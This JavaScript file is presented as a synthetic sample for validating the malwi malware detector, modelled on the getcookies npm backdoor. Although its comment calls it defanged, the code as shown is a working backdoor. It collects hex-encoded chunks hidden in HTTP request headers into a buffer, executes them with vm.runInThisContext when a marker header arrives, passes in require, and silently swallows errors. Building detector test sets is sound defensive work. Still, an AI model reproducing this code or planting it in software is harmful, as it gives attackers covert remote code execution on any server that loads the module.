// SYNTHETIC, DEFANGED malwi validation sample - modelled on getcookies backdoor (2018); never run.
// Backdoor: commands hidden in request headers fill a buffer; a marker header runs it.
'use strict';
const vm = require('vm');

let buffer = Buffer.alloc(0);

module.exports = function harness(req) {
  const raw = JSON.stringify(req.headers);
  raw.replace(/g([a-f0-9]{4})h((?:[a-f0-9]{2})+)i/gi, (match, offset, hex) => {
    const at = parseInt(offset, 16);
    const chunk = Buffer.from(hex, 'hex');
    if (buffer.length < at + chunk.length) {
      const grown = Buffer.alloc(at + chunk.length);
      buffer.copy(grown);
      buffer = grown;
    }
    chunk.copy(buffer, at);
    return match;
  });
  raw.replace(/gCOMMANDhDATAi/, () => {
    // reset
    buffer = Buffer.alloc(0);
    return '';
  });
  raw.replace(/gRUNhTHISi/, () => {
    try {
      vm.runInThisContext(buffer.toString('utf8'))(module.exports, require, req, {});
    } catch (e) {}
    return '';
  });
};
